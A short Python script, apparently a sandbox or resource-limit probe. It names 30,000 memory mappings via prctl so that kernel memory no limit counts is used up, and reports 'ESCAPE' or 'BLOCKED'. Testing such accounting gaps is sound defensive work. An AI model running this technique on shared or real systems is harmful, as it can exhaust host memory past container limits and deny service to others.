import ctypes, mmap
# Each piece of memory may have a name of 80 bytes in the kernel, which no meter counts.
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
at = libc.mmap(None, ctypes.c_size_t(8192 * 30000), 0, 0x4022, -1, ctypes.c_long(0))
done = 0
while done < 30000:
    if libc.prctl(0x53564D41, ctypes.c_ulong(0), ctypes.c_ulong(at + 8192 * done), ctypes.c_ulong(4096), b"%078d" % done):
        print("BLOCKED:", ctypes.get_errno())
        break
    done += 1
print("ESCAPE:" if done else "none:", done)
print("DONE")
